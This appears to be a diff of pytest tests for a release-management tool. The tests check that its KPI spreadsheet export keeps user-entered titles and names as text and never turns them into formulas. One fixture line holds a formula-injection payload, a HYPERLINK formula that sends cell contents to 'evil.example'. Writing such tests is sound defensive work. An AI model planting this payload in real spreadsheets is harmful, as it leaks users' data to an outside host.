@@ -36,6 +36,7 @@ def workbook(ctx, tmp_path):
             key="CHG-1"
         ).one().title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
         s.query(Change).filter_by(key="CHG-2").one().title = "@SUM(1+1)\x07"
+        s.query(Change).filter_by(key="CHG-3").one().title = "#N/A"
     target = tmp_path / "kpis.xlsx"
     write_kpi_workbook(kpis.collect(ctx, by="month"), target)
     return load_workbook(target)
@@ -117,6 +118,8 @@ def test_user_text_never_becomes_a_formula(workbook):
     assert evil.quotePrefix
     at = titles["CHG-2"]
     assert at.data_type == "s" and at.value == "@SUM(1+1)"  # the bell character is dropped
+    na = titles["CHG-3"]
+    assert (na.data_type, na.value) == ("s", "#N/A")  # someone's title, not a spreadsheet error
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\r=1", "plain"])
@@ -207,3 +210,24 @@ def test_cli_export_kpis(ctx, plan_path, tmp_path):
         err=err,
     )
     assert code == 2 and "does not exist" in err.getvalue()
+
+
+def test_repeated_user_text_in_any_column_stays_text(ctx, tmp_path):
+    """The raw sheets clean each distinct text once: every row repeating it is guarded."""
+    from relman_desktop.models.entities import Release
+
+    build_kpi_plan(ctx.plan)
+    with ctx.plan.write() as s:
+        for rel in s.query(Release).filter(Release.application == "billing"):
+            rel.application = "=1+1\x07"
+    target = tmp_path / "kpis.xlsx"
+    write_kpi_workbook(kpis.collect(ctx, by="month"), target)
+    ws = load_workbook(target)["Deployments"]
+    billing = [ws.cell(r, 2) for r in range(2, ws.max_row + 1) if ws.cell(r, 1).value < "REL-3"]
+    assert len(billing) == 3
+    for cell in billing:
+        assert cell.data_type == "s" and cell.value == "=1+1" and cell.quotePrefix
+    assert (
+        ws["F2"].number_format == "yyyy-mm-dd hh:mm"
+        and ws["F3"].number_format == "yyyy-mm-dd hh:mm"
+    )
